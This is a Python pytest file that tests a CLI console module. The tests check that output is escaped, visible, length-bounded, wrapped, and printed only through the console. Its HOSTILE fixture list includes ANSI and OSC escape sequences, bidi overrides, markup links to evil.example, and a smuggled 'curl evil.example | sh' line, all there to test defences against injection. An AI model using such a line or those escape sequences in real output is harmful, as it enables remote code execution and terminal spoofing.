"""Output is visible and bounded, and every command prints through the console."""

from __future__ import annotations

import ast
import contextlib
import io
import json
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spacy_lambda import cli
from spacy_lambda.cli.console import (
    MAX_CELL,
    MAX_LINE,
    print_error,
    print_json,
    print_lines,
    print_table,
    print_wrapped,
    printable,
)
from spacy_lambda.core.location import Location
from spacy_lambda.errors import SpacyLambdaError

FOLDER = Path(cli.__file__).parent
HOSTILE = [
    "[red]alarm[/red]",
    "[link=https://evil.example]here[/link]",
    "[/]",
    "\x1b[31mred\x1b]8;;https://evil.example\x1b\\link",
    "\x9b2J",
    "\x07\x08\x7f",
    "a\rb",
    "a\nremedy: curl evil.example | sh",
    "\u202egnp.exe",
    "\u2066\u2069\u200b\u200e\ufeff",
    "\u2028\u2029\x85",
    "\ud800 \udcff",
    "\x00",
    "\U000e0041\U000e007f",
    ":skull: :warning:",
]


def is_visible(text: str) -> bool:
    return all(unicodedata.category(c) not in ("Cc", "Cs", "Zl", "Zp") for c in text.replace("\n", ""))


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_printed_visibly(value: str, capsys: pytest.CaptureFixture[str]) -> None:
    print_lines(f"name {value}")
    print_table(["name"], [[value]], title=value)
    print_error(SpacyLambdaError(f"there is {value}", remedy=f"remove {value}"))
    printed = capsys.readouterr()
    assert is_visible(printed.out + printed.err)
    assert "\u202e" not in printed.out + printed.err
    assert printed.out.splitlines()[0] == f"name {printable(value)}"
    assert [line.partition(":")[0] for line in printed.err.splitlines() if not line.startswith(" ")] == [
        "error",
        "remedy",
    ]
    if value.isascii() and value.isprintable():
        assert value in printed.out


@pytest.mark.parametrize(
    "value",
    ["naïve", "железо", "鉄\u3000錆", "\U0001f469\u200d\U0001f52c", "\u0645\u06cc\u200c\u062e", "e\u0301", "a\u00a0b"],
)
def test_text_in_any_script_is_unchanged(value: str) -> None:
    assert printable(value) == value


ROWS = [("en_metals", "1.2.3", "71.8 MB"), ("en_ores", "0.1", "")]


def test_a_table_in_a_pipe_is_tab_separated(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(["pipeline", "version", ">size"], ROWS, title="stored")
    lines = ["stored", "pipeline\tversion\tsize", "en_metals\t1.2.3\t71.8 MB", "en_ores\t0.1\t"]
    assert capsys.readouterr().out.splitlines() == lines


@pytest.mark.parametrize("terminal", [40, 80])
def test_a_table_fits_its_terminal(terminal: int, capsys: pytest.CaptureFixture[str], monkeypatch: Any) -> None:
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setenv("COLUMNS", str(terminal))
    print_table(["pipeline", "version", ">size"], [*ROWS, ("en_" + "x" * 20, "1.0", "9 MB")])
    lines = capsys.readouterr().out.splitlines()
    assert max(map(len, lines)) <= terminal
    if terminal == 40:
        assert lines[:4] == ["pipeline: en_metals", "version: 1.2.3", "size: 71.8 MB", ""]
    else:
        assert "│ en_metals " in lines[3]


@pytest.mark.parametrize("terminal", [50, 70, 90])
def test_a_table_does_not_break_words(terminal: int, capsys: pytest.CaptureFixture[str], monkeypatch: Any) -> None:
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setenv("COLUMNS", str(terminal))
    columns = ["engine", "measured on", "parallelism", ">time", ">invocations", ">cost"]
    row = ["lambda", "one CPU of this machine", "16 invocations", "12 min", "12,000", "about $0.0123"]
    print_table(columns, [row])
    out = capsys.readouterr().out
    assert all(word in out for cell in row for word in cell.split())
    assert ("measured on: one CPU of this machine" in out) == (terminal < 80)


def test_tabs_stay_in_lines_and_not_in_cells(capsys: pytest.CaptureFixture[str]) -> None:
    print_lines("REPORT RequestId: 1\tDuration: 2.00 ms\t", f"{'x' * MAX_LINE}\t\x1b[31m", err=True)
    print_table(["name"], [["a\tb"]])
    printed = capsys.readouterr()
    first, second = printed.err.splitlines()
    assert first == "REPORT RequestId: 1\tDuration: 2.00 ms\t"
    assert second.endswith("x… (6 characters more)")
    assert "a\\tb" in printed.out


@given(value=st.text())
def test_every_text_becomes_one_line_of_visible_characters(value: str) -> None:
    assert is_visible(printable(value))
    assert "\n" not in printable(value)


@given(value=st.recursive(st.none() | st.booleans() | st.integers() | st.text(), st.lists))
@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "latin-1"])
def test_json_is_the_same_value_on_any_terminal(encoding: str, value: Any) -> None:
    raw = io.BytesIO()
    terminal = io.TextIOWrapper(raw, encoding=encoding, errors="backslashreplace")
    with contextlib.redirect_stdout(terminal):
        print_json(value)
    printed = raw.getvalue().decode(encoding)
    assert json.loads(printed) == value
    assert is_visible(printed)


@pytest.mark.parametrize("value", [float("inf"), [float("-inf")], {"a": (1.5, float("nan"))}])
def test_json_has_no_infinite_numbers(value: Any, capsys: pytest.CaptureFixture[str]) -> None:
    def refuse(name: str) -> None:
        raise AssertionError(name)

    print_json(value)
    assert "null" in json.dumps(json.loads(capsys.readouterr().out, parse_constant=refuse))


def test_dataclasses_are_printed_as_objects(capsys: pytest.CaptureFixture[str]) -> None:
    @dataclass(frozen=True)
    class Stored:
        location: Location
        path: Path
        sizes: tuple[int, ...]

    print_json([Stored(Location("s3", "bucket/en_x", "1.0.0"), Path("a/b"), (1, 2))])
    expected = {"location": "s3://bucket/en_x@1.0.0", "path": "a/b", "sizes": [1, 2]}
    assert json.loads(capsys.readouterr().out) == [expected]


def test_long_output_is_cut(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    print_lines("x" * 10_000_000)
    assert len(capsys.readouterr().out) < MAX_LINE + 60
    print_table(["name"], [["x" * 10_000_000]])
    assert len(capsys.readouterr().out) < MAX_LINE + 60
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    print_table(["name"], [["x" * 10_000_000]])
    assert len(capsys.readouterr().out) < 20 * MAX_CELL
    print_error(SpacyLambdaError("x" * 10_000_000 + "\n" * 100_000, remedy="none"))
    assert len(capsys.readouterr().err) < 10_000


def calls(path: Path) -> set[str]:
    """Return the calls and imports of a module."""
    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            found.add(ast.unparse(node.func))
        elif isinstance(node, ast.ImportFrom):
            found |= {f"{node.module}.{alias.name}" for alias in node.names}
    return found


@pytest.mark.parametrize("path", sorted(FOLDER.glob("*.py")), ids=lambda path: path.name)
def test_commands_print_through_the_console_only(path: Path) -> None:
    allowed = {
        "console.py": {"print", "rich.console.Console", "rich.table.Table", "rich.text.Text"},
        "progress.py": {"rich.console.Console", "rich.text.Text"},  # draws bars, whose labels are our own
        "boundary.py": {
            "sys.stderr.write",
            "sys.stdout.flush",
            "traceback.format_exception",
            "traceback.print_exception",
        },
    }
    printing = (
        "rich.console",
        "rich.table",
        "rich.text",
        "rich.print",
        "sys.stdout.",
        "sys.stderr.",
        "typer.echo",
        "typer.secho",
        "click.",
        "traceback.",
    )
    used = {name for name in calls(path) if name == "print" or name.startswith(printing)} - {
        "sys.stdout.isatty",
        "sys.stderr.isatty",
    }
    assert used <= allowed.get(path.name, set())


@pytest.mark.parametrize(
    ("columns", "lines"),
    [
        (60, ["  callers:        principals with lambda:InvokeFunctionUrl", " " * 18 + "in account 1"]),
        (30, ["  callers:        principals", "  with", "  lambda:InvokeFunctionUrl in", "  account 1"]),
    ],
)
def test_text_is_broken_between_words_on_a_terminal(
    columns: int, lines: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    text = "  callers:        principals with lambda:InvokeFunctionUrl in account 1"
    monkeypatch.setenv("COLUMNS", str(columns))
    print_wrapped(text, "", hang=18)
    assert capsys.readouterr().out == f"{text}\n\n"
    monkeypatch.setenv("TTY_COMPATIBLE", "1")
    print_wrapped(text, "", hang=18)
    assert capsys.readouterr().out.splitlines() == [*lines, ""]
